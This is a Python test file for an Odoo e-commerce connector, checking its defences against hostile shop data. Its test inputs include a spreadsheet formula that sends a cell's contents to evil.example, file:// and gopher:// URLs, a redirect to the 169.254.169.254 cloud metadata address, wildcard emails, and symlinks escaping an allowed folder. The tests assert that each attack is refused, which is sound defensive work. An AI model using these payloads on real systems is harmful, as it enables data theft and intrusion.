# Copyright 2026 ecom suite contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""What an attacker, a clumsy integrator or a failing shop tried (issue 8):
written-once intake, rights of Retry / Replay, server folders and URLs,
matching and parsing that cannot be fooled, failures the merchant sees."""

import json
import os
import tempfile
from datetime import datetime, timedelta

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user
from odoo.tools import SQL, mute_logger

from odoo.addons.queue_job.exception import RetryableJobError

from .common import EcomConnectorCase
from .servers.base import Response, ShopServer

QUIET = mute_logger("odoo.addons.ecom_connector.platforms.base")


class ScriptedServer(ShopServer):
    """Answers every request with ``answer(request)``."""

    def __init__(self, answer):
        super().__init__()
        self.answer = answer

    def route(self, request):
        return self.answer(request)


class TestHardening(EcomConnectorCase):
    def _serve(self, answer):
        server = ScriptedServer(answer)
        server.__enter__()
        self.addCleanup(server.__exit__, None, None, None)
        return server

    # ------------------------------------------------- 5. written once

    def test_payload_written_once(self):
        entry = self.receive(self.canonical_order())
        child = entry.child_ids
        self.assertEqual(child.state, "done", child.error)
        other = self.backend.copy({"name": "Autre boutique"})
        for env in (self.env_user, self.env_manager):
            with self.assertRaises(AccessError if env is self.env_user else UserError):
                child.with_env(env).write({"payload": json.dumps(self.canonical_order())})
        # not even the superuser (a server action) rewrites what a shop sent
        for vals in (
            {"payload": "{}"},
            {"backend_id": other.id},
            {"source": "api"},
            {"payload_hash": "0" * 64},
            {"external_id": "A-9999"},
        ):
            with self.subTest(vals=vals), self.assertRaises(UserError):
                child.write(vals)
        self.assertIn('"A-1001"', child.payload)

    def test_retry_and_replay_need_a_manager_who_may_sell(self):
        entry = self.receive(self.canonical_order(lines=[{"sku": "NOPE", "quantity": 1}]))
        child = entry.child_ids
        self.assertEqual(child.state, "error")
        with self.assertRaises(AccessError):
            child.with_env(self.env_user).action_retry()
        with self.assertRaises(AccessError):
            child.with_env(self.env_user).action_replay()
        # a manager without the right to create sale orders gets no more by replaying
        manager_only = new_test_user(
            self.env,
            login="ecom_manager_only",
            groups="base.group_user,ecom_base.ecom_base_group_manager",
            company_id=self.company.id,
            company_ids=[(6, 0, self.company.ids)],
        )
        with self.assertRaises(AccessError):
            child.with_user(manager_only).action_replay()
        child.with_env(self.env_manager).action_retry()
        self.assertEqual(child.state, "error")
        # skipping is a plain user's decision, written by the system
        child.with_env(self.env_user).action_skip()
        self.assertEqual(child.state, "skipped")

    # ---------------------------------------------- 7. matching, parsing

    def test_email_matching_is_exact(self):
        victim = self.env["res.partner"].create(
            {"name": "Victor Victime", "email": "victor@example.fr", "company_id": self.company.id}
        )
        for index, email in enumerate(("%@example.fr", "v_ctor@example.fr", "%")):
            order = self.canonical_order(external_id=f"WILD-{index}")
            order["customer"] = {"email": email, "name": "Mallory Pirate"}
            order["billing_address"]["email"] = email
            child = self.receive(order).child_ids
            self.assertEqual(child.state, "done", child.error)
            self.assertNotEqual(child.sale_order_id.partner_id, victim, email)
        order = self.canonical_order(external_id="CASE-1")
        order["customer"] = {"email": "VICTOR@Example.FR", "name": "Victor Victime"}
        child = self.receive(order).child_ids
        self.assertEqual(child.sale_order_id.partner_id, victim)

    def test_customers_belong_to_the_shop_company(self):
        child = self.receive(self.canonical_order()).child_ids
        sale = child.sale_order_id
        self.assertEqual(sale.partner_id.company_id, self.company)
        self.assertEqual(sale.partner_shipping_id.company_id, self.company)

    def test_amounts_must_be_finite_and_sane(self):
        for field, value in (
            ("price_unit", "1e400"),
            ("quantity", "1e400"),
            ("price_unit", "Infinity"),
            ("quantity", "2e9"),
        ):
            with self.subTest(field=field, value=value):
                order = self.canonical_order(external_id=f"BIG-{field}-{value}")
                order["lines"][0][field] = value
                child = self.receive(order).child_ids
                self.assertEqual(child.state, "error")
                self.assertIn(field, child.error)
                self.assertFalse(child.sale_order_id)

    def test_text_cannot_become_a_formula(self):
        order = self.canonical_order(external_id="FORMULA-1")
        order["billing_address"]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
        order["shipping_address"]["city"] = "@SUM(1+1)"
        order["lines"][1]["name"] = "-2+3"
        child = self.receive(order).child_ids
        self.assertEqual(child.state, "done", child.error)
        sale = child.sale_order_id
        self.assertTrue(sale.partner_invoice_id.name.startswith("'="))
        self.assertEqual(sale.partner_shipping_id.city, "'@SUM(1+1)")
        self.assertEqual(sale.partner_id.phone, "+33 6 12 34 56 78")

    def test_unreadable_date_is_an_error(self):
        child = self.receive(self.canonical_order(date_order="32/13/2026 25h")).child_ids
        self.assertEqual(child.state, "error")
        self.assertIn("32/13/2026", child.error)

    def test_oversized_csv_cell(self):
        shop = self.backend.copy({"name": "Fichiers", "platform": "file"})
        header = "order_id;sku;quantity;price_unit;total;billing_name"
        payload = header + "\n" + "1;THE-SENCHA;1;12;12;" + "x" * 200000 + "\n"
        entry = self.env["ecom.inbox"]._receive(
            shop, payload, source="file", content_type="text/csv", kind="batch", process=False
        )
        entry._process()
        self.assertEqual(entry.state, "error")
        self.assertIn("131072", entry.error)

    # ----------------------------------------- 6. server folders, URLs

    def test_company_without_warehouse_explained(self):
        """Odoo refuses to confirm an order of a company without a warehouse
        (a RedirectWarning "Please create a warehouse..."): the entry says
        so in a sentence the merchant can act on, in the shop's language."""
        self.backend.warehouse_id = False
        # archived behind the ORM's back: Odoo would refuse with stock in it
        self.env.cr.execute(
            SQL("UPDATE stock_warehouse SET active = false WHERE company_id = %s", self.company.id)
        )
        self.env["stock.warehouse"].invalidate_model(["active"])
        child = self.receive(self.canonical_order()).child_ids
        self.assertEqual(child.state, "error")
        self.assertIn(f"The company {self.company.name} has no warehouse", child.error)
        self.assertIn("Inventory > Configuration > Warehouses", child.error)
        self.assertFalse(child.sale_order_id)
        self.env["res.lang"]._activate_lang("fr_FR")
        self.backend.lang = "fr_FR"
        child.action_retry()
        self.assertIn(f"La société {self.company.name} n'a pas d'entrepôt", child.error)
        # our own messages stay as they are
        order = self.canonical_order(external_id="A-1002")
        order["lines"][0]["sku"] = "INCONNU-1"
        self.backend.lang = "en_US"
        child = self.receive(order).child_ids
        self.assertIn("INCONNU-1", child.error)

    def test_file_folder_rules(self):
        shop = self.backend.copy({"name": "Dépôt", "platform": "file"})
        root = os.path.realpath(tempfile.mkdtemp())
        inside = os.path.join(root, "boutique")
        os.mkdir(inside)
        outside = os.path.realpath(tempfile.mkdtemp())
        # no allowed root on the server: no folder at all
        with self.assertRaisesRegex(UserError, "allowed root"):
            shop.file_folder = inside
        self.env["ir.config_parameter"].set_param("ecom_base.file_root", root)
        with self.assertRaises(AccessError):
            shop.with_env(self.env_manager).write({"file_folder": inside})
        with self.assertRaisesRegex(UserError, "not under"):
            shop.file_folder = outside
        with self.assertRaisesRegex(UserError, "not under"):
            shop.file_folder = os.path.join(inside, "..", "..")
        link = os.path.join(root, "lien")
        os.symlink(outside, link)
        with self.assertRaisesRegex(UserError, "symbolic link"):
            shop.file_folder = link
        shop.file_folder = inside
        # a symbolic link dropped in the folder is not read
        with open(os.path.join(outside, "secret.csv"), "w", encoding="utf-8") as handle:
            handle.write("order_id;sku;quantity;price_unit;total\n")
        os.symlink(os.path.join(outside, "secret.csv"), os.path.join(inside, "orders.csv"))
        self.assertFalse(self.env["ecom.inbox"]._receive_folder(shop))

    def test_missing_folder_does_not_stop_the_others(self):
        root = os.path.realpath(tempfile.mkdtemp())
        self.env["ir.config_parameter"].set_param("ecom_base.file_root", root)
        gone, kept = os.path.join(root, "gone"), os.path.join(root, "kept")
        os.mkdir(gone)
        os.mkdir(kept)
        first = self.backend.copy({"name": "A", "platform": "file", "file_folder": gone})
        second = self.backend.copy({"name": "B", "platform": "file", "file_folder": kept})
        os.rmdir(gone)
        order = self.canonical_order(external_id="KEPT-1")
        with open(os.path.join(kept, "orders.json"), "w", encoding="utf-8") as handle:
            json.dump(order, handle)
        with mute_logger("odoo.addons.ecom_connector.models.ecom_backend"):
            (first | second)._scan_folder()
        self.assertEqual(self.env["ecom.inbox"].search_count([("backend_id", "=", second.id)]), 1)

    def test_private_urls_refused(self):
        server = self._serve(lambda request: Response(200, []))
        self.backend.base_url = server.url
        self.env["ir.config_parameter"].set_param("ecom_base.allowed_private_hosts", "")
        with self.assertRaisesRegex(UserError, "private or local network"):
            self.backend.with_env(self.env_manager).action_test_connection()
        self.assertEqual(server.requests, [])
        with self.assertRaises(ValidationError):
            self.backend.base_url = "file:///etc/passwd"
        with self.assertRaises(ValidationError):
            self.backend.base_url = "gopher://127.0.0.1:6379/"

    def test_redirect_to_a_private_address_refused(self):
        server = self._serve(
            lambda request: Response(
                302, b"", {"Location": "http://169.254.169.254/latest/meta-data/"}
            )
        )
        self.backend.base_url = server.url
        with self.assertRaisesRegex(UserError, "169.254.169.254"):
            self.backend.with_env(self.env_manager).action_test_connection()
        self.assertEqual(len(server.requests), 1)

    def test_push_key_for_a_manager_without_email(self):
        self.ecom_manager.partner_id.email = False
        action = self.backend.with_env(self.env_manager).action_generate_push_api_key()
        key = action["context"]["ecom_push_api_key"]
        self.assertTrue(self.backend._check_push_api_key(key))
        self.assertFalse(self.env["ecom.backend.api.key"].search([]))

    # --------------------------------------- 3. failures a merchant sees

    def test_poll_failures_on_the_shop(self):
        server = self._serve(
            lambda request: Response(
                401, {"code": "woocommerce_rest_cannot_view", "message": "Clé refusée."}
            )
        )
        self.backend.base_url = server.url
        for attempt in range(1, 4):
            message = self.backend._import_orders(until=datetime(2026, 11, 22))
            self.assertIn("Clé refusée.", message)
            self.assertEqual(self.backend.poll_failure_count, attempt)
        self.assertIn("Clé refusée.", self.backend.poll_error)
        self.assertTrue(self.backend.poll_error_at)
        activities = self.env["mail.activity"].search(
            [("res_model", "=", "ecom.backend"), ("res_id", "=", self.backend.id)]
        )
        self.assertIn(self.ecom_manager, activities.user_id)
        server.answer = lambda request: Response(200, [], {"X-WP-TotalPages": "1"})
        self.backend._import_orders(until=datetime(2026, 11, 22))
        self.assertEqual(self.backend.poll_failure_count, 0)

    def test_first_poll_reads_seven_days(self):
        server = self._serve(lambda request: Response(200, [], {"X-WP-TotalPages": "1"}))
        self.backend.write({"base_url": server.url, "import_from": False})
        until = datetime(2026, 11, 22)
        self.backend._import_orders(until=until)
        since = until - timedelta(days=7, minutes=self.backend.sync_overlap)
        self.assertEqual(
            server.requests[0].param("modified_after"), since.strftime("%Y-%m-%dT%H:%M:%S")
        )
        self.assertEqual(self.backend.import_from, until)

    def test_cut_short_or_reset_answers_are_retried(self):
        """A body cut short (urllib3 1.x hands it over without an error), a
        connection reset or closed without an answer: retried by the job
        queue, never read as an answer."""
        body = {"orders": ["x" * 200]}
        server = self._serve(lambda request: Response(200, body))
        self.backend.base_url = server.url
        client = self.backend._get_adapter().client
        for fault in ("truncate", "reset", "drop"):
            server.faults.append(fault)
            with self.subTest(fault=fault), QUIET, self.assertRaises(RetryableJobError):
                client.request("GET", f"{server.url}/wp-json/wc/v3/orders")
        self.assertEqual(client.request("GET", f"{server.url}/x").json(), body)

    def test_unreachable_shop_counts_a_failure(self):
        # the failure is written in a transaction of its own (the job's is
        # rolled back): in test mode that cursor shares the test transaction
        self.registry.enter_test_mode(self.cr)
        self.addCleanup(self.registry.leave_test_mode)
        self.backend.base_url = "http://127.0.0.1:9"
        # not assertRaises, which rolls back to a savepoint as the job queue would
        try:
            with QUIET:
                self.backend._import_orders(until=datetime(2026, 11, 22))
        except RetryableJobError:
            pass
        else:
            self.fail("an unreachable shop is retried by the job queue")
        self.backend.invalidate_recordset()
        self.assertEqual(self.backend.poll_failure_count, 1)
        self.assertIn("does not answer", self.backend.poll_error)
